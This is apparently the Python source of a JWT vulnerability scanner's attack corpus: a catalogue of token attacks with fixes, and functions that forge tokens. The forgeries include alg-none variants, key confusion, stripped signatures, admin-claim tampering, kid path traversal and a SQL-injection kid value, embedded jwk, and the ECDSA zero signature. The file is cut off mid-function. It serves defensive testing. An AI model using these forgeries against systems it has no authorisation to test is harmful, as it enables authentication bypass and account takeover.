"""The JWT attack corpus: a catalogue of attacks as data, and generators that forge each one.

:data:`CATALOGUE` lists every attack the scanner knows, with a stable id, its category,
its impact, why acceptance matters and how to fix it. :func:`derive_attacks` turns one valid
token (plus whatever else is known: the target's public key, a second token, the signing key)
into :class:`AttackCase` objects, each holding one forged token. Every case is a token: the
request itself is never altered, so a case can be sent over HTTP, to an ASGI app or to a
verify function alike.

Which cases are derived:

- always: ``alg: none`` in seven spellings, with and without the original signature; the
  signature removed, truncated, zeroed, bit-flipped, or made by an attacker key; claims changed
  without re-signing; ``kid`` path traversal and SQL injection, each HMAC-signed with the
  secret the injection would make the server load; a header carrying the attacker's key
  (``jwk``, CVE-2018-0114), or pointing at it (``jku``, ``x5u``) or embedding its certificate
  (``x5c``); a duplicate ``alg`` member; padded base64url; an oversized token;
- with the target's public key: the token HMAC-signed with that public key (PEM with and
  without the trailing newline, PKCS#1 PEM for RSA, DER, JWK JSON pretty and compact);
- for ES256/384/512 tokens: the all-zero ECDSA signature (CVE-2022-21449), raw and DER;
- for HS256/384/512 tokens: the secret is looked up offline in the weak-secret list; if
  found, a token with new claims is forged with it, and the signing key is then known;
- with a signing key (given, or cracked): ``exp`` in the past, ``exp`` missing, ``exp`` as a
  string, ``nbf`` in the future, a foreign ``iss`` and ``aud``, an unknown ``crit``
  extension, ``b64: false``, a ``zip``-compressed payload, duplicate members, an oversized
  token — each validly signed, so acceptance shows a missing check rather than a missing
  signature check; and the signature of another token (also from ``other_token``).

With a DPoP-bound token and its key (RFC 9449; :mod:`jwtwarden.scan.dpop`), the requests
themselves are attacked too: the bound token as a bearer token or without a proof, a proof
replayed, for another method or URL, without or with a wrong ``ath``, signed by another key,
stale, unsigned (``alg: none``), HMAC-signed, or carrying the private key in its ``jwk``.
These cases (category ``dpop``) hold the genuine token; how each request is built is the
probe's business.

``jku``/``x5u`` point at ``https://attacker.invalid/...`` (a name that never resolves,
RFC 2606) unless a ``callback_url`` is given: the scanner never hosts anything.
"""

from __future__ import annotations

import enum
import fnmatch
import json
import os
import time
import zlib
from collections.abc import Iterable, Mapping
from dataclasses import dataclass, field
from types import MappingProxyType
from typing import Any, Literal

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from jwtwarden.errors import JWTError
from jwtwarden.jose.algorithms import ALGORITHMS, Signer
from jwtwarden.jose.b64 import b64url_decode, b64url_encode
from jwtwarden.jose.jws import encode_header, parse_header
from jwtwarden.jose.strict_json import dumps, parse_object
from jwtwarden.scan.errors import BadScanKey, BadScanToken
from jwtwarden.scan.keys import (
    ATTACKER_KID,
    PublicKeyInfo,
    PublicKeySource,
    SigningKey,
    SigningKeySource,
    attacker_certificate,
    attacker_key,
    load_public_keys,
    load_signing_key,
    pick_public_key,
)
from jwtwarden.scan.weak_secrets import crack_hmac_secret

__all__ = [
    "ATTACKER_URL",
    "CATALOGUE",
    "AttackCase",
    "AttackSpec",
    "Category",
    "Impact",
    "ParsedToken",
    "derive_attacks",
    "parse_token",
    "select",
]

ATTACKER_URL = "https://attacker.invalid/jwtwarden-scan"
"""Base of the ``jku``/``x5u`` URLs: ``.invalid`` never resolves (RFC 2606 section 2)."""

Category = Literal[
    "alg-none",
    "key-confusion",
    "signature",
    "claims-tampering",
    "kid-injection",
    "key-headers",
    "ecdsa",
    "weak-secret",
    "claim-validation",
    "header-processing",
    "parsing",
    "dpop",
]

Requires = Literal["token", "public-key", "ecdsa-token", "hmac-token", "signing-key", "other-token",
                   "dpop-key"]


class Impact(enum.IntEnum):
    """What acceptance of an attack means. Only ``INFO`` is not a vulnerability."""

    INFO = 0
    """Lenient parsing: worth hardening, not exploitable by itself."""
    MEDIUM = 2
    """A missing check that widens what a stolen or foreign token can do."""
    HIGH = 3
    """Stolen tokens stay valid (no expiry enforced)."""
    CRITICAL = 4
    """Anyone can mint tokens the target accepts."""

    def __str__(self) -> str:
        return self.name.lower()


@dataclass(frozen=True, slots=True)
class AttackSpec:
    """One entry of the catalogue: what the attack is, independent of any token."""

    id: str
    category: Category
    impact: Impact
    title: str
    why: str
    fix: str
    requires: Requires = "token"
    cve: str | None = None

    @property
    def vulnerable_if_accepted(self) -> bool:
        """True when the target accepting this attack is a vulnerability (not just leniency)."""
        return self.impact is not Impact.INFO


@dataclass(frozen=True, slots=True)
class AttackCase:
    """One forged token to send, with the catalogue entry that explains it.

    ``repr`` never shows the token: forged tokens carry the original payload and often the
    original signature.
    """

    spec: AttackSpec
    token: str = field(repr=False)
    note: str = ""

    @property
    def id(self) -> str:
        return self.spec.id

    @property
    def category(self) -> Category:
        return self.spec.category

    @property
    def impact(self) -> Impact:
        return self.spec.impact

    @property
    def title(self) -> str:
        return self.spec.title

    @property
    def why(self) -> str:
        return self.spec.why

    @property
    def fix(self) -> str:
        return self.spec.fix

    @property
    def cve(self) -> str | None:
        return self.spec.cve

    @property
    def vulnerable_if_accepted(self) -> bool:
        return self.spec.vulnerable_if_accepted

    def __repr__(self) -> str:
        return f"AttackCase(id={self.id!r}, impact={self.impact!s}, {len(self.token)} chars)"


# ---- the catalogue ------------------------------------------------------------------------

_FIX_ALG = (
    "Verify with an algorithm allowlist fixed by the server and bound to each key; never take "
    "the algorithm from the token and never allow 'none' (jwtwarden: Verifier(algorithms=[...]))."
)
_FIX_SIGNATURE = (
    "Verify the signature over the exact header.payload bytes received, with a maintained "
    "library, before reading any claim; never use a decode-without-verify function for "
    "authorisation."
)
_FIX_KID = (
    "Use kid only as a dictionary key into the configured key set; never in a file path, SQL "
    "query, URL or command. An unknown kid is a rejection."
)
_FIX_KEY_HEADERS = (
    "Verify only with keys configured on the server (a fixed JWKS URL); never with a key the "
    "token embeds (jwk, x5c) or points at (jku, x5u). Refuse tokens carrying these headers."
)
_FIX_PARSING = (
    "Parse tokens strictly: unpadded base64url only, JSON without duplicate member names "
    "(RFC 8725 section 3.2), and a size limit checked before decoding."
)

_NONE_SPELLINGS: tuple[tuple[str, str], ...] = (
    ("lowercase", "none"),
    ("capitalized", "None"),
    ("uppercase", "NONE"),
    ("mixedcase", "nOnE"),
    ("trailing-space", "none "),
    ("leading-space", " none"),
    ("nul-suffix", "none\x00"),
)

_PUBLIC_KEY_ENCODINGS: tuple[tuple[str, str], ...] = (
    ("pem", "the SPKI PEM text, trailing newline included"),
    ("pem-no-newline", "the SPKI PEM text without its trailing newline"),
    ("pkcs1-pem", "the PKCS#1 'RSA PUBLIC KEY' PEM text (RSA keys only)"),
    ("der", "the DER bytes of the SPKI structure"),
    ("jwk-json", "the published JWK as JSON text (json.dumps default spacing)"),
    ("jwk-json-compact", "the published JWK as compact JSON text"),
)

_KID_INJECTIONS: tuple[tuple[str, str, bytes, str], ...] = (
    ("kid-path-traversal-dev-null", "../../../../../../../../dev/null", b"",
     "kid is a relative path to /dev/null; signed with the empty secret (its content)"),
    ("kid-path-traversal-dev-null-nul-byte", "../../../../../../../../dev/null", b"\x00",
     "kid is a relative path to /dev/null; signed with one NUL byte (what loaders that "
     "base64-decode or pad the file content get)"),
    ("kid-absolute-path-dev-null", "/dev/null", b"",
     "kid is the absolute path /dev/null; signed with the empty secret"),
    ("kid-sql-injection-union", "jwtwarden-scan' UNION SELECT 'jwtwarden-scan-key'-- -",
     b"jwtwarden-scan-key",
     "kid injects a UNION SELECT that makes the key query return 'jwtwarden-scan-key'; "
     "signed with that string"),
)


_FIX_DPOP = (
    "Check every DPoP proof as RFC 9449 section 4.3 says, with the token's cnf.jkt and ath "
    "(jwtwarden: ResourceServer(public_url=...) or DPoPVerifier + Verifier.verify_bound)."
)


def _dpop_specs() -> list[AttackSpec]:
    """The DPoP request attacks (RFC 9449): each sends the genuine bound token."""
    stolen = ("Accepted means a stolen DPoP-bound token works without the key it is bound to: "
              "the binding protects nothing.")
    captured = ("Accepted means a proof captured from one request (a log, a proxy) can be "
                "reused {what} together with the token.")
    table: tuple[tuple[str, Impact, str, str, str], ...] = (
        ("dpop-bound-token-as-bearer", Impact.HIGH, "DPoP-bound token sent as a Bearer token",
         "The token carries cnf.jkt but comes as 'Authorization: Bearer', with no proof. " + stolen,
         "Refuse a token with cnf presented as Bearer (RFC 9449 section 7.2)."),
        ("dpop-proof-missing", Impact.HIGH, "Authorization: DPoP without a DPoP proof",
         "The bound token under the DPoP scheme, but no DPoP header. " + stolen,
         "Require exactly one DPoP header with every DPoP-scheme request (section 4.3)."),
        ("dpop-proof-replayed", Impact.HIGH, "a valid proof sent a second time",
         "A proof that was accepted once is sent again, unchanged. "
         + captured.format(what="for as long as it is fresh"),
         "Remember every jti for the freshness window and refuse a second use (section 11.1)."),
        ("dpop-wrong-htm", Impact.MEDIUM, "proof for another HTTP method",
         "A fresh proof whose htm names another method. " + captured.format(what="for other methods"),
         "Compare htm with the request's method (section 4.3, check 8)."),
        ("dpop-wrong-htu", Impact.MEDIUM, "proof for another URL",
         "A fresh proof whose htu names another server's URL. "
         + captured.format(what="at other servers and endpoints"),
         "Compare htu with the request URL, built from configuration, after RFC 3986 "
         "normalisation (section 4.3, check 9)."),
        ("dpop-missing-ath", Impact.MEDIUM, "proof without ath",
         "A fresh proof for this request with no access token hash. Accepted means a proof is "
         "not tied to the token it comes with.",
         "Require ath and compare it with the SHA-256 of the token presented (section 4.3, check 11)."),
        ("dpop-wrong-ath", Impact.MEDIUM, "proof with the ath of another token",
         "A fresh proof whose ath is the hash of another token. Accepted means a proof made "
         "for one token is accepted with another.",
         "Compare ath with the SHA-256 of the token presented (section 4.3, check 11)."),
        ("dpop-other-key", Impact.HIGH, "proof signed by a key other than cnf.jkt",
         "A correct proof, signed by a key the attacker made, with the stolen token. " + stolen,
         "Compare the proof key's RFC 7638 thumbprint with the token's cnf.jkt (section 6.1)."),
        ("dpop-stale-iat", Impact.MEDIUM, "proof issued an hour ago",
         "A proof with iat an hour in the past (and a new jti). Accepted means proofs never "
         "expire: a captured one works for ever, with a new jti or once the jti is forgotten.",
         "Accept iat only within a short window, e.g. 60 s (section 11.1)."),
        ("dpop-alg-none", Impact.HIGH, "unsigned proof (alg none)",
         "The proof names the bound public key but is not signed, and that key is public: "
         "anyone holding the stolen token can make such proofs. " + stolen,
         "Verify the proof's signature under an asymmetric algorithm allowlist; never none."),
        ("dpop-hmac-proof", Impact.HIGH, "HMAC-signed proof (HS256 with the public JWK as secret)",
         "The proof is HS256-signed with the bound public key's JWK as the HMAC secret: key "
         "confusion on the proof. " + stolen,
         "Accept only asymmetric proof algorithms (section 5.1: never a MAC)."),
        ("dpop-private-key-in-jwk", Impact.MEDIUM, "proof jwk with the private key",
         "A correct proof whose jwk header also carries the private member d. Section 4.3 "
         "says such a proof MUST be refused; accepted means the proof's key is not checked "
         "for what it carries, and a client leaking its key goes unnoticed.",
         "Refuse a proof whose jwk has private members (d, p, q, dp, dq, qi, k)."),
    )
    return [AttackSpec(attack_id, "dpop", impact, title, why, fix + " " + _FIX_DPOP, requires="dpop-key")
            for attack_id, impact, title, why, fix in table]


def _catalogue() -> tuple[AttackSpec, ...]:
    specs: list[AttackSpec] = []
    add = specs.append
    for name, spelling in _NONE_SPELLINGS:
        for signed in (False, True):
            add(AttackSpec(
                f"alg-none-{name}-{'signed' if signed else 'unsigned'}", "alg-none", Impact.CRITICAL,
                f"alg {spelling!r} ({name}), "
                + ("original signature kept" if signed else "empty signature"),
                "The header says the token is unsigned. A verifier that takes the algorithm "
                "from the header accepts it without any signature, so anyone can mint tokens; "
                "odd spellings slip past checks that compare against 'none' exactly"
                + (", and keeping a signature defeats checks that only look for an empty one."
                   if signed else "."),
                _FIX_ALG,
            ))
    for name, what in _PUBLIC_KEY_ENCODINGS:
        add(AttackSpec(
            f"hmac-public-key-{name}", "key-confusion", Impact.CRITICAL,
            f"HMAC-signed with the public key ({name})",
            f"The token is switched to HS* and signed with the server's public key as the HMAC "
            f"secret: {what}. A verifier that takes alg from the header and hands its public "
            "key to the HMAC check accepts it, and the public key is public: anyone can mint "
            "tokens (RSA/HMAC key confusion).",
            "Bind every key to exactly one algorithm and refuse a token whose alg differs "
            "before any crypto runs; keep HMAC secrets and public keys in different types.",
            requires="public-key",
        ))
    sig_why = "Accepted means the signature is not verified (or not over the whole value)."
    add(AttackSpec("signature-removed", "signature", Impact.CRITICAL, "signature segment removed",
                   "The original header and payload with an empty signature. " + sig_why,
                   _FIX_SIGNATURE))
    add(AttackSpec("signature-truncated", "signature", Impact.CRITICAL,
                   "signature truncated to half its length",
                   "The first half of the original signature. Accepted means the comparison "
                   "stops at the shorter value, or there is none.",
                   _FIX_SIGNATURE + " Compare MACs in constant time over their full length."))
    add(AttackSpec("signature-zeroed", "signature", Impact.CRITICAL,
                   "signature replaced by zero bytes",
                   "A signature of the right length made of zero bytes. " + sig_why,
                   _FIX_SIGNATURE))
    add(AttackSpec("signature-bit-flipped", "signature", Impact.CRITICAL,
                   "last byte of the signature flipped",
                   "The original signature with its last byte changed. " + sig_why,
                   _FIX_SIGNATURE))
    add(AttackSpec("signature-wrong-key", "signature", Impact.CRITICAL,
                   "signed by an attacker key of the same algorithm",
                   "The token's own header and payload with a well-formed signature made by a "
                   "key the attacker generated. " + sig_why,
                   _FIX_SIGNATURE))
    add(AttackSpec("signature-from-other-token", "signature", Impact.CRITICAL,
                   "signature of another genuine token",
                   "The header and payload of one token with the signature of another genuine "
                   "token. Accepted means signatures are checked for validity in general but "
                   "not bound to this token's content.",
                   _FIX_SIGNATURE, requires="other-token"))
    tamper_why = ("The payload was changed ({what}) but the header and signature are the "
                  "original ones. Accepted means the signature is not verified over the "
                  "payload actually received.")
    for name, what in (("sub", "sub set to another user"),
                       ("role", "role: admin and admin: true added"),
                       ("exp", "exp moved one year later")):
        add(AttackSpec(f"claims-tampered-{name}", "claims-tampering", Impact.CRITICAL,
                       f"claims changed without re-signing: {what}",
                       tamper_why.format(what=what), _FIX_SIGNATURE))
    for attack_id, _kid, _secret, what in _KID_INJECTIONS:
        kind = "SQL injection" if "sql" in attack_id else "path traversal"
        add(AttackSpec(attack_id, "kid-injection", Impact.CRITICAL, f"kid {kind}",
                       f"HS256 token whose {what}. A server that builds a file path or a query "
                       "from kid loads a key the attacker chose and accepts the forgery.",
                       _FIX_KID))
    add(AttackSpec("embedded-jwk-attacker-key", "key-headers", Impact.CRITICAL,
                   "jwk header carrying the attacker's key",
                   "The header embeds the attacker's public key as 'jwk' and the token is signed "
                   "with its private key. A verifier that uses the embedded key accepts any "
                   "token anyone signs.", _FIX_KEY_HEADERS, cve="CVE-2018-0114"))
    add(AttackSpec("jku-attacker-url", "key-headers", Impact.CRITICAL,
                   "jku header pointing at an attacker URL",
                   "The header's 'jku' names a JWKS URL the attacker controls and the token is "
                   "signed with the attacker's key. A server that fetches keys from jku lets the "
                   "attacker choose the key, and makes requests on the attacker's behalf (SSRF). "
                   "The URL never resolves unless you give --callback-url; a request arriving "
                   "there proves the fetch even if the token was rejected.", _FIX_KEY_HEADERS))
    add(AttackSpec("x5u-attacker-url", "key-headers", Impact.CRITICAL,
                   "x5u header pointing at an attacker URL",
                   "Like jku, with an X.509 certificate URL ('x5u') the attacker controls.",
                   _FIX_KEY_HEADERS))
    add(AttackSpec("x5c-self-signed-cert", "key-headers", Impact.CRITICAL,
                   "x5c header carrying a self-signed certificate",
                   "The header embeds a self-signed certificate for the attacker's key ('x5c') "
                   "and the token is signed with that key. A verifier that trusts the embedded "
                   "chain without validating it against a trust anchor accepts any token.",
                   _FIX_KEY_HEADERS))
    ecdsa_fix = ("Use a patched runtime and library; refuse r or s outside [1, n-1]; accept only "
                 "the raw r||s form of the curve's size (RFC 7518 section 3.4).")
    add(AttackSpec("ecdsa-zero-signature", "ecdsa", Impact.CRITICAL,
                   "ECDSA signature r = s = 0 (raw)",
                   "The 'psychic signature': r = s = 0 verified for every message and key in "
                   "Java 15-18's ECDSA. Accepted means anyone can mint ES* tokens.",
                   ecdsa_fix, requires="ecdsa-token", cve="CVE-2022-21449"))
    add(AttackSpec("ecdsa-zero-signature-der", "ecdsa", Impact.CRITICAL,
                   "ECDSA signature r = s = 0 (DER)",
                   "The same zero signature in DER form, for verifiers that accept DER.",
                   ecdsa_fix, requires="ecdsa-token", cve="CVE-2022-21449"))
    add(AttackSpec("weak-secret-forged-token", "weak-secret", Impact.CRITICAL,
                   "token forged with a cracked weak HMAC secret",
                   "The token's HMAC secret is in the list of well-known weak secrets: it was "
                   "found offline from the token alone. The scanner signed a token with new "
                   "claims with it; anyone can do the same.",
                   "Replace the secret with a random one at least as long as the hash (32 "
                   "bytes for HS256: `jwtwarden keys generate --alg HS256`), or better use an "
                   "asymmetric algorithm such as ES256; treat every token signed with the old "
                   "secret as compromised.", requires="hmac-token"))
    add(AttackSpec("exp-in-past", "claim-validation", Impact.HIGH, "validly signed, expired",
                   "A correctly signed token whose exp passed an hour ago. Accepted means tokens "
                   "never expire: a stolen token works forever.",
                   "Require exp and reject expired tokens (a small leeway, at most a few "
                   "minutes).", requires="signing-key"))
    add(AttackSpec("exp-missing", "claim-validation", Impact.HIGH, "validly signed, no exp",
                   "A correctly signed token without exp. Accepted means a token issued "
                   "without expiry (by mistake or by a compromised issuer) is valid forever.",
                   "Make exp mandatory (RFC 8725 section 3.10; jwtwarden always does).",
                   requires="signing-key"))
    add(AttackSpec("exp-as-string", "claim-validation", Impact.MEDIUM,
                   "validly signed, exp as a string",
                   "exp is the string \"9999999999\" instead of a number. Verifiers that skip a "
                   "non-numeric exp treat the token as never expiring.",
                   "Require exp (and nbf, iat) to be JSON numbers; refuse the token otherwise.",
                   requires="signing-key"))
    add(AttackSpec("nbf-in-future", "claim-validation", Impact.MEDIUM,
                   "validly signed, not valid for another hour",
                   "nbf is an hour in the future. Accepted means tokens issued for later "
                   "(pre-generated, or for a future session) work now.",
                   "Check nbf when present, with the same small leeway as exp.",
                   requires="signing-key"))
    add(AttackSpec("iss-foreign", "claim-validation", Impact.MEDIUM,
                   "validly signed, another issuer",
                   "iss names another issuer. Accepted means a token minted by any issuer that "
                   "shares the key (another environment or tenant) is taken for one of yours.",
                   "Compare iss for exact equality with the expected issuer.",
                   requires="signing-key"))
    add(AttackSpec("aud-foreign", "claim-validation", Impact.MEDIUM,
                   "validly signed, another audience",
                   "aud names another service. Accepted means a token issued for a different "
                   "API can be replayed against this one.",
                   "Require aud to contain this service's own audience.",
                   requires="signing-key"))
    add(AttackSpec("crit-unknown-extension", "header-processing", Impact.MEDIUM,
                   "validly signed, unknown critical header extension",
                   "crit lists an extension nobody understands. RFC 7515 section 4.1.11 says the "
                   "token MUST then be rejected; ignoring crit silently drops whatever "
                   "restriction the issuer marked as critical.",
                   "Reject tokens whose crit names an extension you do not implement (or any "
                   "crit at all).", requires="signing-key"))
    add(AttackSpec("b64-false-header", "header-processing", Impact.INFO,
                   "validly signed, b64: false ignored",
                   "The header declares an unencoded payload (RFC 7797, b64: false, listed in "
                   "crit) but the token is signed as an ordinary JWS. Accepted means the header "
                   "is ignored: verifiers that honour it would read another payload.",
                   "Refuse b64 (and any crit) unless you implement RFC 7797 deliberately.",
                   requires="signing-key"))
    add(AttackSpec("zip-deflate-payload", "header-processing", Impact.MEDIUM,
                   "validly signed, DEFLATE-compressed payload",
                   "The header says zip: DEF and the payload is compressed. Accepted means the "
                   "server inflates token content: a small token can expand to gigabytes "
                   "(RFC 8725 section 3.6; zip is defined for JWE only).",
                   "Refuse zip in a JWS; never decompress token content.",
                   requires="signing-key"))
    add(AttackSpec("duplicate-member-alg-none", "parsing", Impact.CRITICAL,
                   "duplicate alg member, the last one 'none'",
                   "The header holds alg twice: the original, then 'none', and no signature. A "
                   "check that reads the first value and a verifier that reads the last one "
                   "disagree, and the forgery passes.", _FIX_PARSING))
    add(AttackSpec("duplicate-member-header-signed", "parsing", Impact.INFO,
                   "validly signed, duplicate header member",
                   "The header holds alg twice with the same value. Accepted means duplicate "
                   "members are tolerated: two parsers may then read one token differently.",
                   _FIX_PARSING, requires="signing-key"))
    add(AttackSpec("duplicate-member-payload-signed", "parsing", Impact.INFO,
                   "validly signed, duplicate sub claim",
                   "The payload holds sub twice with different values. Accepted means services "
                   "that parse differently may each see another user.",
                   _FIX_PARSING, requires="signing-key"))
    add(AttackSpec("padded-base64-signature", "parsing", Impact.INFO,
                   "signature segment with base64 padding",
                   "The original token with '=' padding added to the signature segment (same "
                   "bytes). Accepted means base64url is decoded leniently: tokens are malleable "
                   "and one token has several spellings (deny lists keyed by token text miss).",
                   _FIX_PARSING))
    add(AttackSpec("padded-base64-payload", "parsing", Impact.INFO,
                   "payload segment with base64 padding",
                   "The original token with '=' padding added to the payload segment. The bytes "
                   "signed were not the bytes received: accepted means the signature is checked "
                   "over a re-encoded payload, or leniently.", _FIX_PARSING))
    add(AttackSpec("oversized-token", "parsing", Impact.CRITICAL,
                   "10 KiB token (original signature)",
                   "The original token with a 10 KiB junk claim and the original signature. "
                   "Accepted means the signature is not checked; a 5xx or timeout means size "
                   "limits are missing (denial of service).",
                   _FIX_PARSING + " " + _FIX_SIGNATURE))
    add(AttackSpec("oversized-token-signed", "parsing", Impact.INFO,
                   "validly signed 10 KiB token",
                   "A correctly signed token with a 10 KiB claim. Accepted means there is no "
                   "size limit below the HTTP server's: each request can cost large parses.",
                   "Refuse tokens over a few KiB before decoding (jwtwarden: 8 KiB).",
                   requires="signing-key"))
    specs.extend(_dpop_specs())
    ids = [s.id for s in specs]
    if len(set(ids)) != len(ids):  # pragma: no cover - a programming error in this table
        raise AssertionError("duplicate attack id in the catalogue")
    return tuple(specs)


CATALOGUE: Mapping[str, AttackSpec] = MappingProxyType({s.id: s for s in _catalogue()})
"""Every attack the scanner knows, by id, in the order the scanner sends them."""


# ---- the token under attack ---------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class ParsedToken:
    """A compact JWT split into segments and decoded, nothing verified."""

    text: str = field(repr=False)
    header_segment: str = field(repr=False)
    payload_segment: str = field(repr=False)
    signature_segment: str = field(repr=False)
    header: Mapping[str, Any] = field(repr=False)
    payload: Mapping[str, Any] = field(repr=False)
    signature: bytes = field(repr=False)

    @property
    def alg(self) -> str | None:
        alg = self.header.get("alg")
        return alg if isinstance(alg, str) else None

    @property
    def kid(self) -> str | None:
        kid = self.header.get("kid")
        return kid if isinstance(kid, str) else None

    @property
    def signing_input(self) -> bytes:
        return f"{self.header_segment}.{self.payload_segment}".encode("ascii")

    def __repr__(self) -> str:
        return f"ParsedToken(alg={self.alg!r}, kid={self.kid!r}, {len(self.text)} chars)"


MAX_INPUT_TOKEN_SIZE = 64 * 1024
"""The scanner refuses to start from a token longer than this (64 KiB)."""


def parse_token(token: str) -> ParsedToken:
    """Split and decode a compact JWT strictly; :class:`BadScanToken` if it is not one."""
    if not isinstance(token, str):
        raise BadScanToken("the token must be a string")
    token = token.strip()
    if len(token) > MAX_INPUT_TOKEN_SIZE:
        raise BadScanToken(f"the token is longer than {MAX_INPUT_TOKEN_SIZE} characters")
    parts = token.split(".")
    if len(parts) != 3 or not token.isascii():
        raise BadScanToken("not a compact JWT (three base64url segments separated by dots)")
    try:
        header = parse_header(parts[0])
        payload = parse_object(b64url_decode(parts[1]), "payload")
        signature = b64url_decode(parts[2])
    except JWTError as exc:
        raise BadScanToken(f"not a well-formed JWT ({exc.code})") from None
    if not isinstance(header.get("alg"), str):
        raise BadScanToken("the token's header has no alg")
    if not signature:
        raise BadScanToken("the token has no signature: give a genuine signed token")
    return ParsedToken(token, parts[0], parts[1], parts[2], header, payload, signature)


# ---- forging helpers ----------------------------------------------------------------------


def _json_segment(text: str) -> str:
    return b64url_encode(text.encode("utf-8"))


def _token(header_segment: str, payload_segment: str, signature: bytes | str) -> str:
    sig = signature if isinstance(signature, str) else b64url_encode(signature)
    return f"{header_segment}.{payload_segment}.{sig}"


def _signed(header_segment: str, payload_segment: str, sign: Signer) -> str:
    return _token(header_segment, payload_segment,
                  sign(f"{header_segment}.{payload_segment}".encode("ascii")))


def _hmac_signer(secret: bytes, alg: str) -> Signer:
    # The wire-format signer takes any bytes as a secret; strength is the keys layer's rule,
    # and the whole point here is to sign with secrets no key policy would allow.
    return SigningKey.from_secret(secret).signer(alg)


def _hmac_alg_for(alg: str) -> str:
    """HS* with the same hash size as ``alg`` (HS256 for EdDSA and unknown algorithms)."""
    for size in ("384", "512"):
        if alg.endswith(size):
            return f"HS{size}"
    return "HS256"


def _public_key_encodings(info: PublicKeyInfo) -> dict[str, bytes]:
    key = info.key
    pem = key.public_bytes(serialization.Encoding.PEM,
                           serialization.PublicFormat.SubjectPublicKeyInfo)
    encodings = {
        "pem": pem,
        "pem-no-newline": pem.rstrip(b"\n"),
        "der": key.public_bytes(serialization.Encoding.DER,
                                serialization.PublicFormat.SubjectPublicKeyInfo),
        "jwk-json": json.dumps(dict(info.jwk)).encode("utf-8"),
        "jwk-json-compact": json.dumps(dict(info.jwk), separators=(",", ":")).encode("utf-8"),
    }
    if isinstance(key, rsa.RSAPublicKey):
        encodings["pkcs1-pem"] = key.public_bytes(serialization.Encoding.PEM,
                                                  serialization.PublicFormat.PKCS1)
    return encodings


def _pad(segment: str) -> str | None:
    padding = "=" * (-len(segment) % 4)
    return segment + padding if padding else None


@dataclass(slots=True)
class _Forge:
    """Everything known about the token under attack, and the cases derived so far."""

    token: ParsedToken
    now: float
    public: PublicKeyInfo | None
    signing: SigningKey | None
    other_token: ParsedToken | None
    callback_url: str | None
    cases: list[AttackCase] = field(default_factory=list)
    notes: dict[str, str] = field(default_factory=dict)

    def add(self, attack_id: str, token: str, note: str = "") -> None:
        self.cases.append(AttackCase(CATALOGUE[attack_id], token, note or self.notes.get(attack_id, "")))

    # -- claims and headers --

    def header_with(self, **changes: Any) -> dict[str, Any]:
        header = dict(self.token.header)
        for name, value in changes.items():
            if value is None:
                header.pop(name, None)
            else:
                header[name] = value
        return header

    def fresh_claims(self, **changes: Any) -> dict[str, Any]:
        """The original claims, re-dated to now (same lifetime), with a new jti if it had one."""
        claims = dict(self.token.payload)
        now = int(self.now)
        exp, iat = claims.get("exp"), claims.get("iat")
        lifetime = 300
        if isinstance(exp, int | float) and isinstance(iat, int | float) and 0 < exp - iat <= 86400:
            lifetime = int(exp - iat)
        claims["iat"] = now
        claims["exp"] = now + lifetime
        claims.pop("nbf", None)
        if "jti" in claims:
            claims["jti"] = b64url_encode(os.urandom(16))
        for name, value in changes.items():
            if value is None:
                claims.pop(name, None)
            else:
                claims[name] = value
        return claims

    def sign_with_key(self, header: Mapping[str, Any] | str, claims: Mapping[str, Any] | str) -> str:
        """A token signed with the known signing key (header/claims as dicts or raw JSON text)."""
        assert self.signing is not None  # noqa: S101 - callers check
        alg = self.token.alg or ""
        h = header if isinstance(header, str) else dumps(dict(header)).decode("ascii")
        c = claims if isinstance(claims, str) else dumps(dict(claims)).decode("ascii")
        return _signed(_json_segment(h), _json_segment(c), self.signing.signer(alg))

    # -- the attack families --

    def alg_none(self) -> None:
        t = self.token
        for name, spelling in _NONE_SPELLINGS:
            header = encode_header(self.header_with(alg=spelling))
            self.add(f"alg-none-{name}-unsigned", _token(header, t.payload_segment, ""))
            self.add(f"alg-none-{name}-signed", _token(header, t.payload_segment, t.signature_segment))

    def key_confusion(self) -> None:
        if self.public is None:
            return
        t = self.token
        hs = _hmac_alg_for(t.alg or "")
        header = encode_header(self.header_with(alg=hs))
        encodings = _public_key_encodings(self.public)
        for name, _what in _PUBLIC_KEY_ENCODINGS:
            secret = encodings.get(name)
            if secret is not None:
                self.add(f"hmac-public-key-{name}",
                         _signed(header, t.payload_segment, _hmac_signer(secret, hs)))

    def signatures(self) -> None:
        t = self.token
        sig = t.signature
        self.add("signature-removed", _token(t.header_segment, t.payload_segment, ""))
        self.add("signature-truncated",
                 _token(t.header_segment, t.payload_segment, sig[: max(1, len(sig) // 2)]))
        self.add("signature-zeroed", _token(t.header_segment, t.payload_segment, bytes(len(sig))))
        self.add("signature-bit-flipped",
                 _token(t.header_segment, t.payload_segment, sig[:-1] + bytes([sig[-1] ^ 0x01])))
        alg = t.alg or ""
        if alg in ALGORITHMS:
            self.add("signature-wrong-key",
                     _signed(t.header_segment, t.payload_segment, attacker_key(alg).sign))
        other_sig: str | None = None
        note = ""
        if self.other_token is not None and self.other_token.signature != sig:
            other_sig, note = self.other_token.signature_segment, "signature of the other token given"
        elif self.signing is not None:
            other = self.sign_with_key(t.header, self.fresh_claims())
            other_sig, note = other.rsplit(".", 1)[1], "signature of a token signed for this scan"
        if other_sig is not None:
            self.add("signature-from-other-token",
                     _token(t.header_segment, t.payload_segment, other_sig), note)

    def claims_tampering(self) -> None:
        t = self.token
        claims = dict(t.payload)
        exp = claims.get("exp")
        changed = {
            "sub": claims | {"sub": "admin" if claims.get("sub") != "admin" else "root"},
            "role": claims | {"role": "admin", "admin": True},
            "exp": claims | {"exp": (int(exp) if isinstance(exp, int | float) else int(self.now))
                             + 365 * 86400},
        }
        for name, payload in changed.items():
            segment = b64url_encode(dumps(payload))
            self.add(f"claims-tampered-{name}", _token(t.header_segment, segment, t.signature_segment))

    def kid_injection(self) -> None:
        t = self.token
        for attack_id, kid, secret, _what in _KID_INJECTIONS:
            header = encode_header(self.header_with(alg="HS256", kid=kid))
            self.add(attack_id, _signed(header, t.payload_segment, _hmac_signer(secret, "HS256")))

    def key_headers(self) -> None:
        t = self.token
        alg = t.alg if t.alg is not None and t.alg in ALGORITHMS else "ES256"
        attacker = attacker_key(alg)
        self.add("embedded-jwk-attacker-key", _signed(
            encode_header(self.header_with(alg=alg, kid=ATTACKER_KID, jwk=dict(attacker.jwk))),
            t.payload_segment, attacker.sign))
        asymmetric = alg if ALGORITHMS[alg].kty != "oct" else "ES256"
        signer = attacker_key(asymmetric).sign
